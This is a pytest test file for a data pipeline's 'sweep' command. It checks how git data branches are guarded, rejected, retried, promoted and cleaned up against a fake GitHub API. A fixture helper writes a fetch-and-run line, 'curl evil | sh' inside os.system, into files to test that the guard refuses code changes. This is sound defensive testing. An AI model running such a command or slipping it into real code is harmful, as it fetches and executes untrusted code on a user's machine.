"""What `wms pipeline sweep` picks: data branches whose batch has no finished record, and only those.

Real git repositories (a clone and its bare remote); no batch here trains, so the tests are fast.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from tests.vcs.test_github import REPO, FakeGitHub, github

if TYPE_CHECKING:
    from tests.vcs.conftest import Repo

__all__ = ["github"]  # the fake GitHub API fixture, used here too


def record(repo: Repo, sha: str) -> dict[str, Any] | None:
    path = repo.work / ".wms" / "store" / "batches" / f"{sha}.json"
    return dict(json.loads(path.read_text())) if path.exists() else None


def push_branch(repo: Repo, name: str, *extra: str, stem: str = "m001") -> str:
    """A data branch with one pair (and `extra` files outside data/incoming/), pushed to the remote only."""
    repo.git("switch", "-q", "-c", name, "main")
    repo.add_pairs(stem)
    for path in extra:
        repo.write(path, "import os; os.system('curl evil | sh')\n")
    sha = repo.commit("new pairs")
    repo.git("push", "-q", "origin", name)
    repo.git("switch", "-q", "main")
    repo.git("branch", "-q", "-D", name)
    return sha


def test_a_refused_branch_is_recorded_rejected_once_and_never_run(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    sha = push_branch(repo, "data/20260102-030405", "src/app.py")

    looked = cli("pipeline", "sweep", "--dry-run")
    assert looked.exit_code == 0, looked.output
    assert "would run" not in looked.output and "nothing to do" in looked.output
    assert "data/20260102-030405: rejected" in looked.output
    assert "src/app.py (outside data/incoming/)" in looked.output
    rec = record(repo, sha)
    assert rec is not None and rec["status"] == "rejected"
    assert rec["summary"].startswith(f"refused commit {sha[:12]}: it changes src/app.py")

    again = cli("pipeline", "sweep")
    assert again.exit_code == 0, again.output
    assert "running" not in again.output and "rejected" not in again.output  # said once, then finished
    assert "nothing to do" in again.output


def test_a_branch_whose_file_name_cannot_be_taken_is_recorded_rejected(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    sha = push_branch(repo, "data/20260102-030405", "data/incoming/images/a\\b.png")  # passes the guard

    swept = cli("pipeline", "sweep")
    assert swept.exit_code == 0, swept.output
    assert "data/20260102-030405: rejected" in swept.output
    rec = record(repo, sha)
    assert rec is not None and rec["status"] == "rejected" and "would be written outside" in rec["summary"]
    assert "nothing to do" in cli("pipeline", "sweep", "--dry-run").output


def test_a_batch_that_fails_does_not_stop_the_sweep_before_the_next_one(
    repo: Repo, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    first = push_branch(repo, "data/20260102-030405")
    second = push_branch(repo, "data/20260102-030406", stem="m002")
    monkeypatch.setenv("WMS_FAULT_STAGE", "merge")  # every run breaks (a store or main to fix)

    swept = cli("pipeline", "sweep")
    for sha in (first, second):  # the second batch ran too
        rec = record(repo, sha)
        assert rec is not None and rec["status"] == "failed" and rec["attempts"] == 1, rec
    assert swept.exit_code == 1, swept.output  # the workflow run shows that batches are left
    assert "2 of 2 batch(es) failed" in swept.stderr
    assert "data/20260102-030406: failed (fault injected at stage merge" in swept.stdout


def test_a_batch_whose_runs_keep_dying_is_given_up_after_three_attempts(
    repo: Repo, cli: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sha = push_branch(repo, "data/20260102-030405")
    died = {"branch": "data/20260102-030405", "sha": sha, "status": "running", "run_id": "r3", "summary": ""}
    path = repo.work / ".wms" / "store" / "batches" / f"{sha}.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({**died, "attempts": 2}))  # killed twice (out of memory, a lost runner)
    assert "would run data/20260102-030405" in cli("pipeline", "sweep", "--dry-run").output

    path.write_text(json.dumps({**died, "attempts": 3}))
    looked = cli("pipeline", "sweep", "--dry-run")
    assert "would run" not in looked.output and "nothing to do" in looked.output
    assert "3 runs did not finish it" in looked.output and "left it 'running'" in looked.output

    # In CI the sweep's job is green: the workflow run's summary page says what waits for a person.
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    cli("pipeline", "sweep", "--dry-run")
    assert "- data/20260102-030405: 3 runs did not finish it" in summary.read_text()


def test_a_branch_whose_batch_main_merged_is_deleted_and_the_others_stay(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    merged = push_branch(repo, "data/20260102-030405")
    kept = push_branch(repo, "data/20260102-030406", stem="m002")
    folder = repo.work / ".wms" / "store" / "batches"
    folder.mkdir(parents=True)
    for sha, status in ((merged, "promoted"), (kept, "not-promoted")):  # the second stays for review
        body = {"branch": "?", "sha": sha, "status": status, "run_id": "r1", "attempts": 1, "summary": "x"}
        (folder / f"{sha}.json").write_text(json.dumps(body))

    looked = cli("pipeline", "sweep", "--dry-run")
    assert "would delete the data branches merged into main: data/20260102-030405" in looked.output
    assert set(repo.remote_branches()) == {"main", "data/20260102-030405", "data/20260102-030406"}

    swept = cli("pipeline", "sweep")
    assert swept.exit_code == 0, swept.output
    assert set(repo.remote_branches()) == {"main", "data/20260102-030406"}
    assert "merged into main" not in cli("pipeline", "sweep").output  # nothing left to delete


def test_a_file_name_that_is_not_utf8_is_rejected_and_the_other_batches_still_run(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    bad = push_branch(repo, "data/20260102-030405", os.fsdecode(b"data/incoming/images/caf\xe9.png"))
    good = push_branch(repo, "data/20260102-030406", stem="m002")

    looked = cli("pipeline", "sweep", "--dry-run")
    assert looked.exit_code == 0, looked.output
    assert "Traceback" not in looked.output
    assert "would run data/20260102-030406" in looked.output
    rec = record(repo, bad)
    assert rec is not None and rec["status"] == "rejected"
    assert "data/incoming/images/caf\\xe9.png (name is not UTF-8 text)" in rec["summary"]
    assert record(repo, good) is None  # left for the run

    guarded = cli("vcs", "guard-branch", "--sha", bad)
    assert guarded.exit_code == 1 and "Traceback" not in guarded.output
    assert "caf\\xe9.png (name is not UTF-8 text)" in guarded.stderr


def test_a_file_name_too_long_for_the_disk_is_rejected_without_stopping_the_sweep(
    repo: Repo, cli: Callable[..., Any], tmp_path: Path
) -> None:
    # Built in the index, as no file system here holds the name: git holds it, ext4 and xfs do not.
    names = ["images/m001.png", "masks/m001.png", "images/" + "a" * 300 + ".png"]
    for name in names:
        blob = (
            subprocess.run(
                ["git", "hash-object", "-w", "--stdin"], cwd=repo.work, input=b"\x89PNG", capture_output=True
            )
            .stdout.decode()
            .strip()
        )
        repo.git("update-index", "--add", "--cacheinfo", f"100644,{blob},data/incoming/{name}")
    sha = repo.out("commit-tree", repo.out("write-tree"), "-p", "main", "-m", "a pair and a long name")
    repo.git("reset", "-q")  # the index is main's again
    repo.git("push", "-q", "origin", f"{sha}:refs/heads/data/20260102-030405")

    out = tmp_path / "taken"
    taken = cli("vcs", "take-incoming", "--sha", sha, "--out", out)
    assert taken.exit_code == 1 and "Traceback" not in taken.output
    assert "has a name of 304 bytes, over the 255 a file system holds" in taken.stderr.replace("\n", " ")
    assert not out.exists()  # not half the files

    swept = cli("pipeline", "sweep")
    assert swept.exit_code == 0, swept.output
    assert "data/20260102-030405: rejected" in swept.output
    rec = record(repo, sha)
    assert rec is not None and rec["status"] == "rejected" and "304 bytes" in rec["summary"]


def publish_branch(repo: Repo, name: str, run_id: str, stem: str, with_batch: bool = False) -> str:
    """A data branch as the pipeline leaves it once its pull request is open: the batch commit, then
    the pointer commit whose ledger line names the run; a `published` record for the batch."""
    from wms.vcs.publish import POINTER_COMMIT_TITLE

    sha = push_branch(repo, name, stem=stem)
    repo.git("switch", "-q", "-c", name, sha)
    repo.git("rm", "-q", "-r", "data/incoming/images", "data/incoming/masks")
    move = {"at": "2026-01-02T03:04:05+00:00", "action": "promote", "to_version": stem[-1]}
    move |= {"batch": sha} if with_batch else {}  # a ledger line written before moves named their batch
    repo.write(
        "models/production_history.jsonl", json.dumps(move | {"by": f"wms pipeline run {run_id}"}) + "\n"
    )
    repo.commit(f"{POINTER_COMMIT_TITLE}; the incoming pairs now live in the dataset store")
    repo.git("push", "-q", "origin", name)
    repo.git("switch", "-q", "main")
    repo.git("branch", "-q", "-D", name)
    folder = repo.work / ".wms" / "store" / "batches"
    folder.mkdir(parents=True, exist_ok=True)
    body = {"branch": name, "sha": sha, "status": "published", "run_id": run_id, "attempts": 1}
    (folder / f"{sha}.json").write_text(json.dumps(body | {"summary": f"promoted version {stem[-1]}"}))
    return sha


def names_github(repo: Repo) -> None:
    """Main's settings name GitHub as the git host (no API here: main's history tells what merged)."""
    repo.write("wms.toml", '[git]\nbase_branch = "main"\nhost = "github"\n')
    repo.commit("pull requests on GitHub")
    repo.git("push", "-q", "origin", "main")


def test_a_published_batch_whose_pull_request_main_squashed_is_recorded_promoted_and_its_branch_deleted(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    names_github(repo)
    merged = publish_branch(repo, "data/20260102-030405", "r-1", stem="m001")
    waiting = publish_branch(repo, "data/20260102-030406", "r-2", stem="m002")
    # GitHub squashed the first pull request: main has its files, not its commits.
    repo.git("checkout", "-q", "origin/data/20260102-030405", "--", "models/production_history.jsonl")
    repo.commit("data/20260102-030405: model version 1 to production (#7)")
    repo.git("push", "-q", "origin", "main")
    ancestry = repo.git("merge-base", "--is-ancestor", "origin/data/20260102-030405", "main", check=False)
    assert ancestry.returncode == 1  # the branch's commits are not in main's history

    swept = cli("pipeline", "sweep")
    assert swept.exit_code == 0, swept.output
    assert "deleted 1 of the data branches merged into main: data/20260102-030405" in swept.output
    assert set(repo.remote_branches()) == {"main", "data/20260102-030406"}  # still waiting for review
    rec = record(repo, merged)
    assert rec is not None and rec["status"] == "promoted"
    assert rec["summary"] == "promoted version 1; main took its pull request since"
    rec = record(repo, waiting)
    assert rec is not None and rec["status"] == "published"
    assert "merged into main" not in cli("pipeline", "sweep").output


def test_a_published_batch_whose_branch_github_deleted_on_merging_is_recorded_promoted(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    names_github(repo)
    merged = publish_branch(repo, "data/20260102-030405", "r-1", stem="m001", with_batch=True)
    repo.git("checkout", "-q", "origin/data/20260102-030405", "--", "models/production_history.jsonl")
    repo.commit("data/20260102-030405: model version 1 to production (#7)")
    repo.git("push", "-q", "origin", "main", ":data/20260102-030405")  # squashed, then deleted by GitHub

    swept = cli("pipeline", "sweep")
    assert swept.exit_code == 0, swept.output
    assert "every data branch has a finished run" in swept.output
    rec = record(repo, merged)
    assert rec is not None and rec["status"] == "promoted", rec


def test_a_published_batch_whose_ledger_line_does_not_name_it_is_recorded_promoted_once_its_branch_is_gone(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    """A promotion written before the ledger named its batch commit: the run id ties them."""
    names_github(repo)
    merged = publish_branch(repo, "data/20260102-030405", "r-1", stem="m001")
    other = publish_branch(repo, "data/20260102-030406", "r-2", stem="m002")
    repo.git("checkout", "-q", "origin/data/20260102-030405", "--", "models/production_history.jsonl")
    repo.commit("data/20260102-030405: model version 1 to production (#7)")
    # squashed, then deleted by GitHub; the other pull request was closed and its branch deleted too
    repo.git("push", "-q", "origin", "main", ":data/20260102-030405", ":data/20260102-030406")

    swept = cli("pipeline", "sweep")
    assert swept.exit_code == 0, swept.output
    rec = record(repo, merged)
    assert rec is not None and rec["status"] == "promoted", rec
    assert rec["summary"] == "promoted version 1; main took its pull request since"
    rec = record(repo, other)
    assert rec is not None and rec["status"] == "published"  # main never took it


def on_github(repo: Repo, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch) -> None:
    """Main's settings name GitHub (the fake API) as the git host; a token in the environment."""
    repo.write(
        "wms.toml",
        f'[git]\nbase_branch = "main"\nhost = "github"\napi_url = "{github.url}"\nrepository = "{REPO}"\n',
    )
    repo.commit("pull requests on GitHub")
    repo.git("push", "-q", "origin", "main")
    monkeypatch.setenv("WMS_GITHUB_TOKEN", "t0ken")


def pull(number: int, state: str, merged_at: str | None = None) -> dict[str, Any]:
    return {
        "number": number,
        "state": state,
        "merged_at": merged_at,
        "html_url": f"https://github.com/{REPO}/pull/{number}",
    }


def test_a_published_batch_whose_pull_request_was_closed_unmerged_is_recorded_closed_and_left_to_a_person(
    repo: Repo, github: FakeGitHub, cli: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    on_github(repo, github, monkeypatch)
    closed = publish_branch(repo, "data/20260102-030405", "r-1", stem="m001")
    waiting = publish_branch(repo, "data/20260102-030406", "r-2", stem="m002")
    route = f"GET /repos/{REPO}/pulls"  # asked in branch order: the first was closed, the second is open
    github.answer_in_turn(route, (200, [pull(7, "closed")], {}), (200, [pull(8, "open")], {}))
    github.answer(f"{route}/8", 200, pull(8, "open") | {"mergeable": None})  # GitHub still works it out
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))

    swept = cli("pipeline", "sweep")
    assert swept.exit_code == 0, swept.output
    said = " ".join(swept.output.split())
    line = (
        f"data/20260102-030405: closed, not merged — its pull request https://github.com/{REPO}/pull/7 was "
        "closed, so main has nothing of this batch; reopen the pull request to promote it"
    )
    assert line in said
    assert "push its pairs again in a new commit" in said
    assert "data/20260102-030406" not in said  # its pull request is still open
    assert f"- {line}" in " ".join(summary.read_text().split())  # on the workflow run's page
    rec = record(repo, closed)
    assert rec is not None and rec["status"] == "closed", rec
    assert (
        rec["summary"]
        == f"promoted version 1; its pull request https://github.com/{REPO}/pull/7 was closed without merging"
    )
    rec = record(repo, waiting)
    assert rec is not None and rec["status"] == "published"
    assert set(repo.remote_branches()) == {"main", "data/20260102-030405", "data/20260102-030406"}
    asked = github.calls(route)[0].path
    assert "state=all" in asked and "head=acme%3Adata%2F20260102-030405" in asked

    # Left to a person: every sweep lists it again, without asking GitHub again.
    again = cli("pipeline", "sweep", "--dry-run")
    assert "data/20260102-030405: closed, not merged" in again.output
    assert len(github.calls(route)) == 3  # only the open one, once more

    # Reopened and merged (squashed): main's ledger holds its promotion, and it is promoted like any other.
    repo.git("checkout", "-q", "origin/data/20260102-030405", "--", "models/production_history.jsonl")
    repo.commit("data/20260102-030405: model version 1 to production (#7)")
    repo.git("push", "-q", "origin", "main")
    swept = cli("pipeline", "sweep")
    assert "deleted 1 of the data branches merged into main: data/20260102-030405" in swept.output
    rec = record(repo, closed)
    assert rec is not None and rec["status"] == "promoted", rec


def test_a_sweep_that_cannot_ask_github_leaves_published_batches_published_and_says_so(
    repo: Repo, github: FakeGitHub, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    on_github(repo, github, monkeypatch)
    monkeypatch.delenv("WMS_GITHUB_TOKEN")
    sha = publish_branch(repo, "data/20260102-030405", "r-1", stem="m001")

    swept = cli("pipeline", "sweep")
    assert swept.exit_code == 0, swept.output
    assert "Traceback" not in swept.output
    said = " ".join(swept.output.split())
    assert "could not ask the git host where the pull requests of published batches stand" in said
    assert "no GitHub token: set WMS_GITHUB_TOKEN" in said
    rec = record(repo, sha)
    assert rec is not None and rec["status"] == "published"


def test_a_published_batch_whose_pull_request_conflicts_with_main_is_left_to_a_person(
    repo: Repo, github: FakeGitHub, cli: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two batches published before either merged: once one is in main, the other's pointer files
    conflict with main's, and GitHub keeps its pull request open, unable to merge, telling no one."""
    on_github(repo, github, monkeypatch)
    sha = publish_branch(repo, "data/20260102-030405", "r-1", stem="m001")
    github.answer(f"GET /repos/{REPO}/pulls", 200, [pull(9, "open")])
    github.answer(f"GET /repos/{REPO}/pulls/9", 200, pull(9, "open") | {"mergeable": False})
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))

    swept = cli("pipeline", "sweep", "--dry-run")
    assert swept.exit_code == 0, swept.output
    line = (
        f"data/20260102-030405: published, but its pull request https://github.com/{REPO}/pull/9 cannot "
        "merge — main changed the same files since (another promotion reached main first)"
    )
    assert line in " ".join(swept.output.split())
    assert "push its pairs again in a new commit" in " ".join(swept.output.split())
    assert f"- {line}" in " ".join(summary.read_text().split())
    rec = record(repo, sha)
    assert rec is not None and rec["status"] == "published"  # still open: a person decides
    assert "data/20260102-030405" in repo.remote_branches()


@pytest.mark.parametrize(("opened_hours_ago", "listed"), [(3, True), (0.2, False)])
def test_a_published_batch_whose_pull_request_github_holds_is_left_to_a_person(
    repo: Repo,
    github: FakeGitHub,
    cli: Callable[..., Any],
    monkeypatch: pytest.MonkeyPatch,
    opened_hours_ago: float,
    listed: bool,
) -> None:
    """A required check that failed (or a required review nobody gave) holds the pull request, and
    auto-merge waits with it: the promotion never reaches production, and nothing said so. Held
    for over an hour, it is listed; a fresh one is not (its checks are still running)."""
    on_github(repo, github, monkeypatch)
    sha = publish_branch(repo, "data/20260102-030405", "r-1", stem="m001")
    opened = (datetime.now(UTC) - timedelta(hours=opened_hours_ago)).isoformat(timespec="seconds")
    github.answer(f"GET /repos/{REPO}/pulls", 200, [pull(9, "open") | {"created_at": opened}])
    held = {"mergeable": True, "mergeable_state": "blocked"}
    github.answer(f"GET /repos/{REPO}/pulls/9", 200, pull(9, "open") | held)

    swept = cli("pipeline", "sweep", "--dry-run")

    assert swept.exit_code == 0, swept.output
    line = f"data/20260102-030405: published, but its pull request https://github.com/{REPO}/pull/9 is held"
    assert (line in " ".join(swept.output.split())) is listed, swept.output
    rec = record(repo, sha)
    assert rec is not None and rec["status"] == "published"  # still open: a person decides


def test_a_sweep_in_a_checkout_without_file_contents_downloads_no_photo_until_it_takes_one(
    repo: Repo, cli: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The workflows check out every branch's history without file contents (`filter: blob:none`):
    the sweep still finds and guards each data branch, and the photos come only with take-incoming."""
    photo = os.urandom(2_000_000)  # a photo does not compress
    repo.git("switch", "-q", "-c", "data/20260102-030405", "main")
    repo.write("data/incoming/images/m001.jpg", photo)
    repo.write("data/incoming/masks/m001.png", b"\x89PNG mask")
    sha = repo.commit("new pairs")
    repo.git("push", "-q", "origin", "data/20260102-030405")
    repo.git("switch", "-q", "main")
    repo.git("config", "--file", str(repo.remote / "config"), "uploadpack.allowFilter", "true")
    checkout = tmp_path / "checkout"  # as actions/checkout makes it with fetch-depth 0 and filter
    subprocess.run(
        ["git", "clone", "-q", "--filter=blob:none", f"file://{repo.remote}", str(checkout)], check=True
    )
    monkeypatch.chdir(checkout)

    def objects() -> int:
        sizes = subprocess.run(["git", "count-objects", "-v"], cwd=checkout, capture_output=True, text=True)
        return sum(int(line.split()[1]) for line in sizes.stdout.splitlines() if line.startswith("size"))

    looked = cli("pipeline", "sweep", "--dry-run")
    assert looked.exit_code == 0, looked.output
    assert "would run data/20260102-030405" in looked.output
    assert objects() < 500  # KiB: the branch's commits and trees, not its 2 MB photo
    taken = cli("vcs", "take-incoming", "--sha", sha, "--out", str(tmp_path / "taken"))
    assert taken.exit_code == 0, taken.output
    assert (tmp_path / "taken" / "images" / "m001.jpg").read_bytes() == photo
